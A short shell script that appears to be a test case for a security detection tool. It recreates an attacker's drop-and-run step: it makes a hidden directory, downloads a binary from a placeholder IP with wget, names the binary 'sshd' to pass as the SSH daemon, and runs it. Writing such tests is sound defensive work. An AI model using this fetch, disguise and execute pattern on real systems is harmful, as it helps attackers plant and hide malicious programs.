#!/bin/sh
. /opt/case/case.sh

mkdir -p /run/.s && cd /run/.s && wget -qO sshd http://203.0.113.10/programs/marker && chmod 755 sshd
/opt/tools/rare_calls clone3-exec /run/.s sshd
test -e /tmp/reached
took_place
